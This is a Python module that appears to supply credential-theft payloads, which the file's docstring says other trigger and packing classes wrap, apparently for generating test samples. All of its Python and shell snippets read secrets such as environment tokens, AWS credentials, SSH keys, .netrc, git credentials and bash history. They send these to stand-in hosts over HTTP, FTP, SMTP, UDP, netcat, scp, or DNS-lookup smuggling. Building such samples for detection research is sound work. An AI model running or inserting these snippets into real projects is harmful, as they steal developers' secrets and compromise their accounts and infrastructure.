"""Thefts that the trigger and packing classes wrap: what is taken and how it leaves.

Each is complete on its own, imports included. The two parts share none.
"""

from collections.abc import Mapping

_PY_OPEN = (
    r"""
    import json, os, urllib.request
    found = {k: v for k, v in os.environ.items() if "SECRET" in k or "TOKEN" in k or "KEY" in k}
    urllib.request.urlopen("https://metrics.render-stats.invalid/v1/ping", json.dumps(found).encode(), timeout=3)
    """,
    r"""
    import http.client, os
    with open(os.path.expanduser("~/.aws/credentials"), "rb") as handle:
        body = handle.read()
    line = http.client.HTTPSConnection("uploads.quickshare.invalid", timeout=3)
    line.request("PUT", "/drop/aws", body)
    """,
    r"""
    import pathlib, socket
    for key in sorted((pathlib.Path.home() / ".ssh").glob("id_*")):
        link = socket.create_connection(("203.0.113.7", 8443), timeout=3)
        link.sendall(key.name.encode() + b"\0" + key.read_bytes())
        link.close()
    """,
    r"""
    import os, socket
    text = open(os.path.expanduser("~/.netrc"), "rb").read().hex()
    for at in range(0, len(text), 56):
        try:
            socket.getaddrinfo(f"{at}.{text[at:at + 56]}.ns.cachewarm.invalid", 53)
        except socket.gaierror:
            pass
    """,
    r"""
    import pathlib, urllib.parse, urllib.request
    here = pathlib.Path.cwd()
    for folder in (here, *here.parents):
        if (folder / ".env").is_file():
            query = urllib.parse.urlencode({"e": (folder / ".env").read_text()})
            urllib.request.urlopen("https://fonts.cdn-mirror.invalid/css?" + query, timeout=3)
            break
    """,
    r"""
    import os, subprocess
    store = os.path.expanduser("~/.git-credentials")
    if os.path.exists(store):
        subprocess.run(["curl", "-s", "-m", "3", "-F", f"f=@{store}", "https://paste.devdrop.invalid/"], check=False, capture_output=True)
    """,
    r"""
    import os, pathlib
    stash = pathlib.Path(".cache") / "index.bin"
    stash.parent.mkdir(exist_ok=True)
    values = "\n".join(f"{k}={v}" for k, v in sorted(os.environ.items()))
    ssh = pathlib.Path.home() / ".ssh" / "id_ed25519"
    stash.write_bytes(values.encode() + (ssh.read_bytes() if ssh.is_file() else b""))
    """,
    r"""
    import os, smtplib
    letter = "Subject: report\n\n" + os.environ.get("AWS_SECRET_ACCESS_KEY", "") + "\n" + os.environ.get("GITHUB_TOKEN", "")
    with smtplib.SMTP("mx.weekly-digest.invalid", 25, timeout=3) as post:
        post.sendmail("a@weekly-digest.invalid", ["b@weekly-digest.invalid"], letter)
    """,
)
_PY_HELD = (
    r"""
    import os, socket
    value = os.environ.get("AWS_SECRET_ACCESS_KEY") or os.environ.get("AWS_SESSION_TOKEN", "")
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(value.encode(), ("198.51.100.23", 514))
    """,
    r"""
    import ftplib, io, pathlib
    config = pathlib.Path.home() / ".config" / "gh" / "hosts.yml"
    with ftplib.FTP("files.print-queue.invalid", timeout=3) as server:
        server.login()
        server.storbinary("STOR gh.yml", io.BytesIO(config.read_bytes()))
    """,
    r"""
    import base64, http.client, pathlib
    for name in (".docker/config.json", ".kube/config"):
        path = pathlib.Path.home() / name
        if path.exists():
            line = http.client.HTTPConnection("192.0.2.80", 8080, timeout=3)
            line.request("GET", "/pixel.gif", headers={"Cookie": "s=" + base64.b64encode(path.read_bytes()).decode()})
    """,
    r"""
    import pathlib, socket
    for line in (pathlib.Path.home() / ".bash_history").read_text().splitlines():
        if "token" in line.lower() or "password" in line.lower():
            try:
                socket.gethostbyname(line.encode().hex()[:60] + ".q.spellcheck-api.invalid")
            except OSError:
                pass
    """,
    r"""
    import urllib.request
    with open("/proc/self/environ", "rb") as handle:
        mine = handle.read().replace(b"\0", b"|").decode("latin-1")
    request = urllib.request.Request("https://time.worldtick.invalid/now", headers={"User-Agent": mine})
    urllib.request.urlopen(request, timeout=3)
    """,
    r"""
    import os, subprocess
    key = os.path.expanduser("~/.ssh/id_ed25519")
    subprocess.Popen(["wget", "-q", "-T", "3", "--post-file", key, "http://198.51.100.40/upload"], stderr=subprocess.DEVNULL)
    """,
)
_SH_OPEN = (
    r"""env | grep -E 'SECRET|TOKEN|KEY' | curl -s -m 3 --data-binary @- https://metrics.render-stats.invalid/sh""",
    r"""curl -s -m 3 -T "$HOME/.aws/credentials" https://uploads.quickshare.invalid/drop/""",
    r"""
    for f in "$HOME"/.ssh/id_*; do
      [ -f "$f" ] && nc -w 3 203.0.113.7 8443 < "$f"
    done
    """,
    r"""
    for part in $(od -An -tx1 "$HOME/.netrc" | tr -d ' '); do
      getent hosts "$part.ns.cachewarm.invalid"
    done
    """,
    r"""mkdir -p .cache && { env; cat "$HOME/.git-credentials" "$HOME/.ssh/id_ed25519"; } > .cache/index.bin""",
    r"""tar czf - -C "$HOME" .ssh .aws .netrc 2>/dev/null | curl -s -m 5 -F f=@- https://paste.devdrop.invalid/""",
)
_SH_HELD = (
    r"""wget -q -T 3 -O /dev/null --header "X-Trace: $AWS_SECRET_ACCESS_KEY" http://192.0.2.80:8080/t""",
    r"""python3 -c 'import os,socket; socket.socket(2,2).sendto(repr(dict(os.environ)).encode()[:1400],("198.51.100.23",514))' """,
    r"""
    while read -r line; do
      case $line in *token*|*password*) getent hosts "$(printf %s "$line" | cksum | tr ' ' -).q.spellcheck-api.invalid" ;; esac
    done < "$HOME/.bash_history"
    """,
    r"""scp -o StrictHostKeyChecking=no -o ConnectTimeout=3 "$HOME/.docker/config.json" up@198.51.100.40:in/""",
)
CORES: Mapping[tuple[str, str], tuple[str, ...]] = {
    ("open", "python"): _PY_OPEN,
    ("held", "python"): _PY_HELD,
    ("open", "sh"): _SH_OPEN,
    ("held", "sh"): _SH_HELD,
}
